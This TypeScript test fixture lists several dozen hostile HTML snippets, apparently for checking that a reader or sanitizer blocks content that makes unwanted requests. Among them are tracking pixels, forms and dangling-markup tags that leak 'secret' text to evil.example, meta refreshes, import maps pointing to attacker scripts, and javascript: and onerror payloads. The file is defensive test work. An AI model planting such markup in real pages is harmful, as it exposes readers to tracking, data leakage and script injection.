import type { HostileBody } from "./hostile-bodies.ts";

/** Bodies that want something asked of a stranger's host, or of the app's own, without a click. */
const BODIES: readonly [name: string, html: string][] = [
  ["a ping on a click", '<a href="https://paper.example/" ping="https://evil.example/p">x</a>'],
  ["a pixel by its size", '<img src="https://evil.example/p.gif" width="1" height="1">'],
  ["a pixel of no height", '<img src="https://evil.example/p.gif" height="0">'],
  ["a pixel by its style", '<img src="https://evil.example/p.gif" style="display: none">'],
  ["a pixel of a known counter", '<img src="https://stats.wordpress.com/b.gif?v=1">'],
  [
    "a pixel of a known counter, by path",
    '<img src="https://www.facebook.com/tr?id=1&ev=PageView">',
  ],
  ["a low source", '<img lowsrc="https://evil.example/x" dynsrc="https://evil.example/y">'],
  ["a background", '<td background="https://evil.example/x">x</td>'],
  [
    "a film that plays by itself",
    '<video autoplay muted loop src="https://film.example/a.mp4"></video>',
  ],
  [
    "sound that loads at once",
    '<audio autoplay preload="auto" src="https://film.example/a.mp3"></audio>',
  ],
  ["a frame", '<iframe src="https://evil.example/"></iframe>'],
  [
    "a frame that loads lazily",
    '<iframe loading="lazy" data-src="https://evil.example/"></iframe>',
  ],
  ["a frame with its own document", '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
  ["a fenced frame", '<fencedframe src="https://evil.example/"></fencedframe>'],
  ["a portal", '<portal src="https://evil.example/"></portal>'],
  ["a frameset", '<frameset><frame src="https://evil.example/"></frameset>'],
  ["a base", '<base href="https://evil.example/"><a href="x">x</a><img src="x.png">'],
  ["a base with a target", '<base target="_top"><a href="https://paper.example/">x</a>'],
  ["a refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ["a refresh to a script", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ["a policy of its own", '<meta http-equiv="Content-Security-Policy" content="script-src *">'],
  [
    "a referrer policy of its own",
    '<meta name="referrer" content="unsafe-url"><a href="https://evil.example/" referrerpolicy="unsafe-url">x</a>',
  ],
  ["a hint to connect", '<link rel="preconnect" href="https://evil.example/">'],
  ["a hint to look up", '<link rel="dns-prefetch" href="//evil.example">'],
  ["a hint to load", '<link rel="preload" as="script" href="https://evil.example/x.js">'],
  ["a module", '<link rel="modulepreload" href="https://evil.example/x.js">'],
  ["an import of old", '<link rel="import" href="https://evil.example/x.html">'],
  ["a manifest", '<link rel="manifest" href="https://evil.example/m.json">'],
  [
    "rules for speculation",
    '<script type="speculationrules">{"prerender":[{"urls":["https://evil.example/"]}]}</script>',
  ],
  [
    "an import map",
    '<script type="importmap">{"imports":{"react":"https://evil.example/x.js"}}</script>',
  ],
  [
    "a form that sends itself",
    '<form action="https://evil.example/" id="f"><input name="a"></form><button form="f" autofocus>x</button>',
  ],
  [
    "a field with a password",
    '<form action="https://evil.example/"><input type="password" name="p"></form>',
  ],
  [
    "a picture that is a button",
    '<form><input type="image" src="https://evil.example/x" formaction="https://evil.example/"></form>',
  ],
  ["a drawing that refers", '<svg><use href="https://evil.example/x.svg#x"></use></svg>'],
  ["a drawing with a picture", '<svg><image href="https://evil.example/x.png"></image></svg>'],
  [
    "a drawing with a filter",
    '<svg><filter id="f"><feImage href="https://evil.example/x"></feImage></filter></svg>',
  ],
  [
    "a drawing with paint from elsewhere",
    '<svg><rect fill="url(https://evil.example/x#y)" width="9" height="9"/></svg>',
  ],
  [
    "a drawing that changes a link",
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="9">x</text></a></svg>',
  ],
  ["a picture of old with a script", '<image src="https://evil.invalid/x" onerror="alert(1)">'],
  ["a mark that never closes", '<img src="https://evil.example/?'],
  ["a mark that never closes, in single quotes", "<img src='https://evil.example/?<p>secret"],
  ["a target that never closes", '<a href="https://evil.example/" target="'],
  [
    "a text area that never closes",
    '<form action="https://evil.example/"><textarea name="x"><p>secret',
  ],
  ["a choice that never closes", '<form action="https://evil.example/"><select><option>secret'],
  [
    "an attribution",
    '<img attributionsrc="https://evil.example/a" src="https://paper.example/a.jpg">',
  ],
  ["a shared store", '<img sharedstoragewritable src="https://paper.example/a.jpg">'],
  [
    "a picture with credentials",
    '<img crossorigin="use-credentials" src="https://paper.example/a.jpg">',
  ],
  [
    "a set whose sizes are endless",
    '<img srcset="https://paper.example/a.jpg 1w" sizes="calc(((((((((1px)))))))))">',
  ],
];

/** Requests that the reader did not mean. */
export function requests(): HostileBody[] {
  return BODIES.map(([name, html]) => ({ name: `request: ${name}`, html }));
}
